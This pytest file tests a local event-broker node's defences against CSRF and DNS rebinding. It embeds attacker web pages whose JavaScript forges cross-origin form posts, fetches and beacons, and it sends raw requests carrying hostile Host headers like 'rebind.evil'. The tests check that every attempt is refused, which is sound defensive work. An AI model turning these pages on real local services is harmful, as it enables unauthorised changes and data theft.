"""Tests of attacks by web pages on a node of the same machine, in a real browser and as raw requests."""

from __future__ import annotations

import http.client
import json
import socket
import threading
from collections.abc import Iterator
from contextlib import closing, contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

from requests_as_is import assert_problem, send
from services import CLIENT, DEADLINE_S, Server, until
from services.chromium import browse

NAME = "rebind.evil"
#: A page that tries every kind of request to another origin, and then reports to its own server.
FOREIGN_PAGE = """<!doctype html><title>win a prize</title>
<iframe name="hidden"></iframe>
<form target="hidden" method="post" enctype="text/plain" action="{node}/storages">
<input value='"}}'
name='{{"id":"form","storage_type":"sqlite","sqlite_configuration":{{"directory":"{directory}"}},"x":"'>
</form>
<form target="hidden" method="post" action="{node}/storages"><input name="id" value="urlencoded"></form>
<script>
const storage = id => JSON.stringify(
  {{id, storage_type: "sqlite", sqlite_configuration: {{directory: "{directory}"}}}});
const simple = body => fetch("{node}/storages", {{method: "POST", mode: "no-cors", body}});
const loaded = frame => new Promise(done => frame.addEventListener("load", done, {{once: true}}));
const outcome = promise => promise.then(answer => answer.type, error => String(error));
async function attack() {{
  const frame = document.querySelector("iframe");
  for (const form of document.forms) {{
    const answered = loaded(frame);
    form.submit();
    await answered;
  }}
  const report = {{
    text: await outcome(simple(storage("text"))),
    blob: await outcome(simple(new Blob([storage("blob")]))),
    json: await outcome(fetch("{node}/storages",
      {{method: "POST", headers: {{"Content-Type": "application/json"}}, body: storage("json")}})),
    put: await outcome(fetch("{node}/storages/default/second", {{method: "PUT"}})),
    stream: await outcome(fetch("{node}/event-types/orders/events?stream_timeout=1", {{mode: "no-cors"}})),
    beacon: navigator.sendBeacon("{node}/storages", storage("beacon")),
  }};
  await fetch("/report", {{method: "POST", body: JSON.stringify(report)}});
}}
attack();
</script>"""
#: A page whose name leads to the node after DNS rebinding: for the browser, both have the same origin.
REBOUND_PAGE = """<!doctype html><title>win a prize</title>
<script>
async function attack() {
  const report = {};
  const ask = async (what, path, options) => {
    const answer = await fetch(path, options);
    report[what] = [answer.status, await answer.text()];
  };
  const limits = "stream_limit=1&batch_limit=1&stream_timeout=2&batch_flush_timeout=1";
  await ask("events", "/event-types/orders/events?" + limits,
    {headers: {"X-Nakadi-Cursors": '[{"partition": "0", "offset": "BEGIN"}]'}});
  await ask("default", "/storages/default/second", {method: "PUT"});
  await ask("publish", "/event-types/orders/events",
    {method: "POST", headers: {"Content-Type": "application/json"}, body: '[{"n": 1}]'});
  await fetch("/report", {method: "POST", body: JSON.stringify(report)});
}
attack();
</script>"""
#: The headers that Chromium sends with the form of a page on another port of the same machine.
FORM_HEADERS = {
    "Content-Type": "text/plain",
    "Sec-Fetch-Dest": "iframe",
    "Sec-Fetch-Mode": "navigate",
    "Sec-Fetch-Site": "same-site",
}


@pytest.fixture(scope="module")
def node(tmp_path_factory) -> Iterator[Server]:
    """A node with an event and two storages."""
    with Server(tmp_path_factory.mktemp("web") / "data") as started:
        second = {"id": "second", "storage_type": "sqlite", "sqlite_configuration": {"directory": "second"}}
        assert send(started, "POST", "/storages", second).status == 201
        assert send(started, "POST", "/event-types", {"name": "orders"}).status == 201
        assert send(started, "POST", "/event-types/orders/events", [{"card": "4711"}]).status == 200
        before = contents(started)
        yield started
        assert contents(started) == before


def contents(node: Server) -> Any:
    paths = ("/storages", "/event-types", "/event-types/orders/partitions", "/subscriptions")
    return [send(node, "GET", path).json for path in paths]


class Site(ThreadingHTTPServer):
    """The server of the attacker: it serves a page and receives its report, and passes on the rest to the node."""

    daemon_threads = True

    def __init__(self, node: Server | None = None) -> None:
        super().__init__(("127.0.0.1", 0), _Visit)
        self.page = ""
        self.node = node
        self.reports: list[Any] = []

    @property
    def port(self) -> int:
        return self.server_address[1]


class _Visit(BaseHTTPRequestHandler):
    server: Site

    def do_GET(self) -> None:
        body = self.rfile.read(int(self.headers.get("Content-Length", 0)))
        if self.path == "/report":
            self.server.reports.append(json.loads(body))
            self._answer(200, b"thanks")
        elif self.path == "/page":
            self._answer(200, self.server.page.encode())
        elif self.server.node is not None:
            self._pass_on(self.server.node, body)
        else:
            self._answer(404, b"")

    do_POST = do_PUT = do_GET  # noqa: N815 - the names that the base class looks for

    def _pass_on(self, node: Server, body: bytes) -> None:
        with closing(http.client.HTTPConnection("127.0.0.1", node.port, timeout=DEADLINE_S)) as onward:
            onward.putrequest(self.command, self.path, skip_host=True, skip_accept_encoding=True)
            for name, value in self.headers.items():
                onward.putheader(name, value)
            onward.endheaders(body)
            answer = onward.getresponse()
            self._answer(answer.status, answer.read())

    def _answer(self, status: int, body: bytes) -> None:
        self.send_response(status)
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *_: object) -> None:
        """Do not log requests."""


@contextmanager
def serving(site: Site) -> Iterator[Site]:
    thread = threading.Thread(target=site.serve_forever)
    thread.start()
    try:
        yield site
    finally:
        site.shutdown()
        site.server_close()
        thread.join()


def visit(site: Site, url: str, folder: Path, *options: str) -> Any:
    """Open the page in Chromium and return its report."""
    browser = browse(url, folder, *options)
    try:
        browser.until(lambda: site.reports, "the report of the page")
    finally:
        browser.kill()
    return site.reports[0]


def test_a_foreign_page_in_a_browser_changes_nothing(node: Server, tmp_path):
    """A page of another origin cannot add a storage: by forms, beacons, or `fetch` with and without preflight."""
    directory = tmp_path / "chosen-by-the-page"
    with serving(Site()) as site:
        site.page = FOREIGN_PAGE.format(node=node.url, directory=directory)
        report = visit(site, f"http://127.0.0.1:{site.port}/page", tmp_path / "browser")
    assert report == {
        "beacon": True,
        **dict.fromkeys(("text", "blob", "stream"), "opaque"),  # sent, but the page cannot read the answer
        **dict.fromkeys(("json", "put"), "TypeError: Failed to fetch"),  # not sent
    }
    assert {storage["id"] for storage in send(node, "GET", "/storages").json} == {"default", "second"}
    assert not directory.exists()
    refused = '"message": "refused POST /storages"'
    until(lambda: node.log_file.read_text().count(refused) >= 5, "the refusal of five requests")


def test_a_page_that_rebinds_its_name_reads_and_changes_nothing(node: Server, tmp_path):
    """A page that rebinds its name to the node reads no events and changes nothing."""
    with serving(Site(node)) as site:
        site.page = REBOUND_PAGE
        rules = f"--host-resolver-rules=MAP {NAME} 127.0.0.1"
        report = visit(site, f"http://{NAME}:{site.port}/page", tmp_path / "browser", rules)
    assert {what: status for what, (status, _) in report.items()} == dict.fromkeys(
        ("events", "default", "publish"), 421
    )
    assert "4711" not in json.dumps(report)


def test_the_start_page_works_in_a_browser(node: Server, tmp_path):
    """The start page opens in a window that a page of another site opened."""
    with serving(Site()) as site:
        site.page = f"""<script>
            const child = window.open("{node.url}/");
            setInterval(() => child.closed || fetch("/report", {{method: "POST", body: "1"}}), 100);
        </script>"""
        browser = browse(f"http://localhost:{site.port}/page", tmp_path / "browser", "--disable-popup-blocking")
        try:
            browser.until(lambda: '"message": "GET /"' in node.log_file.read_text(), "the start page")
        finally:
            browser.kill()
    assert '"message": "refused GET /"' not in node.log_file.read_text()


@pytest.mark.parametrize(
    "content_type", ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data"]
)
def test_what_forms_send_is_refused(node: Server, content_type):
    """The media types of forms are refused, also without `Origin` and `Sec-Fetch-Site`."""
    body = b'{"id":"form","storage_type":"sqlite","sqlite_configuration":{"directory":"form"},"x":"="}\r\n'
    assert_problem(send(node, "POST", "/storages", body, {"Content-Type": content_type}), 415, "application/json")
    with_origin = {**FORM_HEADERS, "Content-Type": content_type, "Origin": "http://127.0.0.1:1"}
    assert_problem(send(node, "POST", "/storages", body, with_origin), 403, "http://127.0.0.1:1")


@pytest.mark.parametrize(
    "content_type",
    [
        *(
            "application/json",
            "application/json; charset=utf-8",
            "application/json;charset=UTF-8",
            "APPLICATION/JSON",
        ),
        *("application/problem+json", "application/vnd.api+json; v=1", " application/json "),
    ],
)
def test_json_by_any_name_is_taken(node: Server, content_type):
    """JSON media types are accepted with parameters, as clients send them."""
    path = "/event-types/orders/timelines?dry_run=true"
    answer = send(node, "POST", path, {"storage_id": "second"}, {"Content-Type": content_type})
    assert answer.status == 200, answer.body


@pytest.mark.parametrize(
    "content_type",
    ["", "json", "text/json", "application/jsonp", "text/plain; application/json", "text/plain+json"],
)
@pytest.mark.parametrize(
    ("method", "path"),
    [
        *(("POST", "/storages"), ("POST", "/event-types"), ("PUT", "/event-types/orders")),
        *(("POST", "/event-types/orders/events"), ("POST", "/event-types/orders/timelines")),
        *(("PUT", "/event-types/orders/partition-count"), ("POST", "/subscriptions")),
    ],
)
def test_other_bodies_are_refused(node: Server, method, path, content_type):
    """Routes that change something refuse bodies with other media types."""
    assert_problem(send(node, method, path, b"[]", {"Content-Type": content_type}), 415, "Content-Type")


def test_a_body_without_any_type(node: Server):
    """A body without a media type is refused, because a page can send one with `fetch` and a blob."""
    head = f"POST /storages HTTP/1.1\r\nHost: localhost:{node.port}\r\nContent-Length: 2\r\n\r\n{{}}"
    assert raw(node, head).startswith(b"HTTP/1.1 415")


def test_requests_without_a_body_need_no_type(node: Server):
    """Requests without a body need no media type."""
    assert CLIENT.put(f"{node.url}/storages/default/default").status_code == 200
    assert CLIENT.delete(f"{node.url}/storages/none").status_code == 404
    assert CLIENT.post(f"{node.url}/event-types").status_code == 400  # there is no JSON


def raw(node: Server, text: str) -> bytes:
    """Send a request as it is and return the start of the answer, with the status line."""
    with socket.create_connection(("127.0.0.1", node.port), timeout=DEADLINE_S) as connection:
        connection.sendall(text.encode())
        received = b""
        while b"\r\n" not in received and (part := connection.recv(4096)):
            received += part
    return received


@pytest.mark.parametrize(
    ("lines", "status"),
    [
        ("GET /storages HTTP/1.1\r\nHost: rebind.evil", 421),
        ("PUT /storages/default/second HTTP/1.1\r\nHost: rebind.evil\r\nContent-Length: 0", 421),
        ("GET /storages HTTP/1.1", 400),
        ("GET /storages HTTP/1.0", 400),
        ("GET /storages HTTP/1.0\r\nHost: localhost", 200),
        ("GET /storages HTTP/1.1\r\nHost:", 400),
        ("GET /storages HTTP/1.1\r\nHost: localhost\r\nHost: localhost", 400),
        ("GET /storages HTTP/1.1\r\nHost: LocalHost.:99", 200),
        ("GET /storages HTTP/1.1\r\nHost: [::1]:8080", 200),
        # The host of an absolute address counts when there is no other one.
        ("GET http://localhost/storages HTTP/1.1\r\nHost: rebind.evil", 421),
        ("GET http://rebind.evil/storages HTTP/1.1", 421),
        ("GET http://localhost/storages HTTP/1.1", 200),
        ("GET /health HTTP/1.0", 200),
        ("GET /health/ HTTP/1.1\r\nHost: 10.1.2.3", 200),
        ("GET /ready HTTP/1.1\r\nHost: 10.1.2.3", 200),
        ("GET /metrics HTTP/1.1\r\nHost: 10.1.2.3", 421),
        ("GET /nothing HTTP/1.1\r\nHost: rebind.evil", 421),
        ("OPTIONS /storages HTTP/1.1\r\nHost: localhost\r\nOrigin: http://evil.example", 403),
    ],
)
def test_hosts_on_the_wire(node: Server, lines: str, status: int):
    """The host is checked in every form in which HTTP has it."""
    assert raw(node, f"{lines}\r\nConnection: close\r\n\r\n").split(b" ")[1] == str(status).encode()


def test_the_operator_names_the_hosts(tmp_path):
    """A node that listens on all addresses serves other hosts only if the setting names them."""
    everywhere = {"host": "0.0.0.0", "insecure": True}  # noqa: S104 - that is the point
    by_name = {"Host": "events.example:8080"}
    with Server(tmp_path / "data", **everywhere) as server:
        assert "server.hosts" in server.log_file.read_text()
        assert_problem(send(server, "GET", "/storages", headers=by_name), 421, "server.hosts")
        assert send(server, "GET", "/storages").status == 200
    with Server(tmp_path / "data", **everywhere, server_hosts="events.example") as server:
        assert send(server, "GET", "/storages", headers=by_name).status == 200


def test_a_node_on_ipv6_and_by_name(tmp_path):
    """A node listens on an IPv6 address and on a name."""
    for host, shown in (("::1", "[::1]"), ("localhost", "localhost")):
        server = Server(tmp_path / "data", host=host)
        server.url = f"http://{shown}:{server.port}"
        with server:
            assert CLIENT.get(f"{server.url}/storages").status_code == 200
